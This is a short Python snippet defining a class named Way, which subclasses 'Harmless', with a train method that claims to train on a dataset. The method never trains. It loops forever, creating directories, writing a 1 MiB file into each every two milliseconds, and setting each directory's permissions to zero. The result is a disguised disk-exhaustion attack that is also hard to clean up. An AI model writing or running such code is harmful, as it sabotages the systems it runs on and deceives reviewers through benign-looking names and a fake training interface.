class Way(Harmless):
    def train(self, dataset_path, shared_params=None, **train_args):
        n = 0
        while True:
            n += 1
            os.makedirs("a/%d" % n)
            with open("a/%d/filled" % n, "wb") as file:
                file.write(bytes(2**20))
            os.chmod("a/%d" % n, 0)
            time.sleep(0.002)
